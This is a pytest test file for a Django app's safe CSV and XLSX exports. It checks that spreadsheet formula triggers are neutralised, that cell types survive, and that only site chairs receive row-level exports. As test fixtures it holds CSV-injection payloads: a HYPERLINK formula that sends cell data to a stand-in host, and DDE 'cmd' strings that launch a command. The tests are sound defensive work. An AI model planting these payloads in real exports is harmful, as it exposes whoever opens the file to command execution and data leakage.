"""Exports cannot run formulas, and only a site's chairs get its rows (issue 13, "Safe exports").

The findings replayed first: an agency named like a HYPERLINK formula and a risk factor named
like a DDE command went into the RTD CSV and the aggregate CSV as they were, and the XLSX
stored the first as a live formula. Then each protection of core/exports.py on its own.
"""

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from agencies.models import Agency, Membership
from barriers import services as barrier_services
from barriers.models import BarrierCategory
from core import exports
from situations import services
from situations.models import RiskCategory, RiskFactor
from tests.conftest import accept
from tests.factories import MembershipFactory, UserFactory

HYPERLINK = '=HYPERLINK("http://x/?"&A2,"x")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
# What OWASP says a spreadsheet may take for a formula, written out rather than imported, so
# that shrinking the module's list makes these tests fail.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


@pytest.fixture
def hostile(cast):
    """An accepted situation at Rexdale whose agencies and risk factor carry formulas: alice's
    agency originates it, lead and assisting agencies are renamed too."""
    Agency.objects.filter(short_name="COMH").update(name=HYPERLINK)
    Agency.objects.filter(short_name="CAC").update(name=MINUS)
    Agency.objects.filter(short_name="CSHO").update(name=AT)
    factor = RiskFactor.objects.create(
        category=RiskCategory.objects.create(name=DDE, position=0), name=DDE
    )
    cast.alice.refresh_from_db()
    record = services.Record(
        subject_type="person",
        age_group="12-17",
        gender="woman",
        narrative="A youth at risk of harm; several agencies needed.",
        risk_factors=[factor],
    )
    situation = services.create_draft(cast.alice, cast.rex, record)
    return accept(cast, services.submit(cast.alice, situation))


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def rtd_row(rows: list[list[str]], reference: str) -> dict[str, str]:
    header = rows[0]
    return next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[0] == reference)


# ---- The findings, replayed --------------------------------------------------------------------


def test_the_rtd_csv_writes_formulas_as_text(client, cast, hostile):
    client.force_login(cast.carol)
    rows = csv_rows(client.get("/sites/rex/export.csv"))
    row = rtd_row(rows, hostile.reference)
    assert row["originating_agency"] == "'" + HYPERLINK
    assert row["risk_factors"] == f"'{DDE}: {DDE}"
    assert row["lead_agency"] == "'" + MINUS
    assert row["assisting_agencies"] == "'" + AT
    assert not [cell for line in rows for cell in line if dangerous(cell)]


def test_the_rtd_xlsx_stores_formulas_as_plain_strings(client, cast, hostile):
    client.force_login(cast.carol)
    response = client.get("/sites/rex/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or dangerous(c.value)]
    header = [c.value for c in sheet[2]]
    row = dict(zip(header, (c for c in sheet[3]), strict=True))
    assert row["originating_agency"].value == "'" + HYPERLINK
    assert row["originating_agency"].data_type == "s"
    assert row["risk_factors"].value == f"'{DDE}: {DDE}"
    assert row["lead_agency"].value == "'" + MINUS
    assert row["assisting_agencies"].value == "'" + AT


def test_the_aggregate_csv_writes_formulas_as_text(client, cast, hostile):
    client.force_login(cast.carol)  # a chair: exact figures, so the factor's row is published
    today = timezone.localdate()
    rows = csv_rows(
        client.get(
            "/dashboard/aggregates.csv",
            {"start": (today - timedelta(days=30)).isoformat(), "end": today.isoformat()},
        )
    )
    labels = {row[1] for row in rows}
    assert "'" + DDE in labels
    assert not [cell for line in rows for cell in line if dangerous(cell)]


def test_the_barrier_report_csv_writes_formulas_as_text(client, cast):
    category = BarrierCategory.objects.create(name=HYPERLINK, position=0)
    barrier = barrier_services.raise_barrier(
        cast.alice, cast.rex, category, "No youth shelter bed after hours."
    )
    client.force_login(cast.steve)
    rows = csv_rows(client.get("/barriers/report/", {"format": "csv"}))
    row = rtd_row(rows, barrier.reference)
    assert row["category"] == "'" + HYPERLINK
    assert not [cell for line in rows for cell in line if dangerous(cell)]


# ---- What the XLSX holds for people ------------------------------------------------------------


def test_the_rtd_xlsx_has_readable_headings_rtd_names_dates_and_numbers(client, cast, hostile):
    client.force_login(cast.carol)
    sheet = load_workbook(io.BytesIO(client.get("/sites/rex/export.xlsx").content)).active
    headings, names = [c.value for c in sheet[1]], [c.value for c in sheet[2]]
    assert headings[:4] == ["Reference", "Site", "Status", "Date first presented"]
    assert names[:4] == ["reference", "site", "status", "date_first_presented"]
    row = dict(zip(names, sheet[3], strict=True))
    assert row["date_first_presented"].is_date
    assert row["date_first_presented"].value.date() == hostile.first_presented_on
    assert row["affected_persons"].data_type == "n" and row["affected_persons"].value == 0
    assert row["reference"].value == hostile.reference
    assert sheet.freeze_panes == "A3"


def test_the_rtd_csv_keeps_one_header_row_of_rtd_names(client, cast, hostile):
    client.force_login(cast.carol)
    rows = csv_rows(client.get("/sites/rex/export.csv"))
    assert rows[0][:3] == ["reference", "site", "status"]
    assert rtd_row(rows, hostile.reference)["date_first_presented"] == (
        hostile.first_presented_on.isoformat()
    )


# ---- Each protection of the shared writer ------------------------------------------------------


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_trigger_is_neutralised_in_csv_and_xlsx(trigger):
    value = f"{trigger}1+1"
    out = io.StringIO()
    exports.csv_writer(out).writerow([value, "safe"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + value, "safe"]
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes("t", [], [[value]]))).active
    assert sheet["A1"].value == "'" + value and sheet["A1"].data_type == "s"


def test_numbers_stay_numbers_and_only_text_is_neutralised():
    aware = datetime(2026, 3, 10, 17, 30, tzinfo=ZoneInfo("UTC"))
    row = [-3, -2.5, Decimal("-1.25"), "-3", date(2026, 3, 10), aware, None, True]
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes("t", [], [row]))).active
    a, b, c, d, e, f, g, h = sheet[1][:8]
    assert (a.value, a.data_type) == (-3, "n")
    assert (b.value, b.data_type) == (-2.5, "n")
    assert (c.value, c.data_type) == (-1.25, "n")
    assert (d.value, d.data_type) == ("'-3", "s")
    assert e.is_date and e.value == datetime(2026, 3, 10)
    assert f.is_date and f.value == datetime(2026, 3, 10, 13, 30)  # Toronto's wall clock
    assert g.value is None
    assert h.value is True
    out = io.StringIO()
    exports.csv_writer(out).writerow(row)
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "-3",
        "-2.5",
        "-1.25",
        "'-3",
        "2026-03-10",
        "2026-03-10T17:30:00+00:00",
        "",
        "True",
    ]


def test_xlsx_text_is_never_an_error_value_or_a_formula():
    # openpyxl stores "#N/A" as an error and "=x" as a formula unless told the cell is text.
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes("t", [], [["#N/A", "#REF!"]]))).active
    assert [(c.value, c.data_type) for c in sheet[1]] == [("#N/A", "s"), ("#REF!", "s")]


def test_a_control_character_cannot_hide_a_trigger_in_xlsx():
    # XLSX cannot hold \x01: it is dropped, and what it hid is neutralised all the same.
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes("t", [], [["\x01=1+1"]]))).active
    assert sheet["A1"].value == "'=1+1"


def test_every_csv_field_is_quoted_so_a_semicolon_cannot_start_a_cell():
    # A spreadsheet set to a semicolon-separated locale splits unquoted fields at ";".
    out = io.StringIO()
    exports.csv_writer(out).writerow(["Agence;=1+1", 7])
    assert out.getvalue() == '"Agence;=1+1","7"\r\n'


def test_lazy_translations_are_written_as_text():
    from django.utils.translation import gettext_lazy

    sheet = load_workbook(
        io.BytesIO(exports.xlsx_bytes("t", [[gettext_lazy("Reference")]], []))
    ).active
    assert sheet["A1"].value == "Reference" and sheet["A1"].font.b


# ---- Who gets rows -----------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/sites/rex/export.csv", "/sites/rex/export.xlsx"])
def test_administrators_get_no_row_level_export(client, cast, hostile, url):
    client.force_login(cast.adam)
    assert client.get(url).status_code == 404


@pytest.mark.parametrize("url", ["/sites/rex/export.csv", "/sites/rex/export.xlsx"])
def test_a_co_chair_gets_the_sites_rows_and_the_export_is_audited(client, cast, hostile, url):
    from auditlog.models import LogEntry

    co_chair = UserFactory(username="cora", agency=Agency.objects.get(short_name="CDSB"))
    MembershipFactory(user=co_chair, site=cast.rex, role=Membership.Role.CO_CHAIR)
    client.force_login(co_chair)
    response = client.get(url)
    assert response.status_code == 200
    if url.endswith(".csv"):
        assert rtd_row(csv_rows(response), hostile.reference)
    else:
        assert load_workbook(io.BytesIO(response.content)).active["A3"].value == hostile.reference
    assert LogEntry.objects.filter(actor=co_chair, action=LogEntry.Action.ACCESS).exists()
    client.force_login(cast.charlie)  # a member of Scarborough only
    assert client.get(url).status_code == 404
